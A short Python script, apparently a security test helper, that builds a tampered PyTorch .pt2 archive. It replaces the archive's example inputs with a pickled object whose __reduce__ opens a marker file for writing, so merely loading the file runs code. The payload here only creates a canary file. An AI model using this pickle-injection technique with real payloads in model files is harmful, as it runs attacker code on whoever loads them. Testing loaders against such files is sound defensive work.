"""Makes a .pt2 whose example inputs run code when they are unpickled. usage: hostile.py GOOD.pt2 BAD.pt2 MARKER"""

import pickle
import sys
import zipfile

import io
import torch


class Touch:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


good, bad, marker = sys.argv[1:]
buffer = io.BytesIO()
torch.save((Touch(marker),), buffer, pickle_module=pickle)
with zipfile.ZipFile(good) as source, zipfile.ZipFile(bad, "w") as target:
    for item in source.infolist():
        data = source.read(item)
        if "sample_inputs" in item.filename or "example_inputs" in item.filename:
            data = buffer.getvalue()
        target.writestr(item.filename, data)
